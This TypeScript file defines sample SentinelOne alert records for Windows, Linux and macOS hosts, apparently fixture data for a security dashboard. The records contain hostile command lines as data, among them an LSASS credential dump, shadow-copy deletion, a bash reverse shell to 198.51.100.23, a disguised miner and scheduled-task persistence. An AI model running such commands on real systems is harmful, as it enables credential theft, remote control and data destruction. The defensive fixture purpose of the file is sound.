/** Texts of detection rules about what happened on a host. */
export interface Story {
  readonly rule: string;
  /** The STAR custom rule in SentinelOne behind it. */
  readonly sentinelOneRule: string;
  readonly ruleId: string;
  readonly severity: 'low' | 'medium' | 'high' | 'critical';
  readonly riskScore: number;
  readonly process: {
    readonly name: string;
    readonly executable: string;
    readonly commandLine: string;
    readonly parent: string;
    readonly user: string;
  };
  readonly file?: { readonly name: string; readonly path: string; readonly size: number };
}

const SYSTEM32 = 'C:\\Windows\\System32';

const ENCODED_POWERSHELL: Story = {
  rule: 'SentinelOne: suspicious PowerShell',
  sentinelOneRule: 'PowerShell with encoded command',
  ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a01',
  severity: 'high',
  riskScore: 73,
  process: {
    name: 'powershell.exe',
    executable: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine:
      'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    parent: 'winword.exe',
    user: 'CORP\\m.keller',
  },
};

const WINDOWS: readonly Story[] = [
  ENCODED_POWERSHELL,
  {
    rule: 'SentinelOne: credential dumping',
    sentinelOneRule: 'LSASS memory dump with comsvcs.dll',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a02',
    severity: 'critical',
    riskScore: 99,
    process: {
      name: 'rundll32.exe',
      executable: `${SYSTEM32}\\rundll32.exe`,
      commandLine: `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 664 C:\\Users\\Public\\l.dmp full`,
      parent: 'cmd.exe',
      user: 'NT AUTHORITY\\SYSTEM',
    },
    file: { name: 'l.dmp', path: 'C:\\Users\\Public\\l.dmp', size: 58_214_400 },
  },
  {
    rule: 'SentinelOne: shadow copies deleted',
    sentinelOneRule: 'Deletion of volume shadow copies',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a03',
    severity: 'critical',
    riskScore: 95,
    process: {
      name: 'vssadmin.exe',
      executable: `${SYSTEM32}\\vssadmin.exe`,
      commandLine: 'vssadmin.exe delete shadows /all /quiet',
      parent: 'invoice_2024_07.exe',
      user: 'CORP\\a.ferreira',
    },
    file: {
      name: 'invoice_2024_07.exe',
      path: 'C:\\Users\\a.ferreira\\Downloads\\invoice_2024_07.exe',
      size: 1_482_752,
    },
  },
  {
    rule: 'SentinelOne: new scheduled task',
    sentinelOneRule: 'Scheduled task that runs from ProgramData',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a04',
    severity: 'medium',
    riskScore: 47,
    process: {
      name: 'schtasks.exe',
      executable: `${SYSTEM32}\\schtasks.exe`,
      commandLine: 'schtasks.exe /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc onlogon',
      parent: 'explorer.exe',
      user: 'CORP\\t.nakamura',
    },
  },
];

const LINUX: readonly Story[] = [
  {
    rule: 'SentinelOne: reverse shell',
    sentinelOneRule: 'Interactive shell over TCP',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a05',
    severity: 'critical',
    riskScore: 97,
    process: {
      name: 'bash',
      executable: '/usr/bin/bash',
      commandLine: "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'",
      parent: 'php-fpm',
      user: 'www-data',
    },
  },
  {
    rule: 'SentinelOne: cryptocurrency miner',
    sentinelOneRule: 'Connection to a mining pool',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a06',
    severity: 'high',
    riskScore: 71,
    process: {
      name: 'kworkerds',
      executable: '/tmp/.X11-unix/kworkerds',
      commandLine: '/tmp/.X11-unix/kworkerds -o stratum+tcp://pool.example.net:3333',
      parent: 'crond',
      user: 'root',
    },
    file: { name: 'kworkerds', path: '/tmp/.X11-unix/kworkerds', size: 3_145_728 },
  },
];

const MAC: readonly Story[] = [
  {
    rule: 'SentinelOne: persistence by launch agent',
    sentinelOneRule: 'Launch agent loaded by osascript',
    ruleId: '6c2d5c5e-3a53-4d0e-8a1c-0f5b6f1c2a07',
    severity: 'low',
    riskScore: 21,
    process: {
      name: 'osascript',
      executable: '/usr/bin/osascript',
      commandLine:
        'osascript -e do shell script "launchctl load ~/Library/LaunchAgents/com.upd.plist"',
      parent: 'Installer',
      user: 'anna',
    },
  },
];

/** A story for the host's operating system; `n` selects one of several. */
export function storyFor(osType: string, n: number): Story {
  const stories = osType === 'macos' ? MAC : osType === 'linux' ? LINUX : WINDOWS;
  return stories[n % stories.length] ?? ENCODED_POWERSHELL;
}
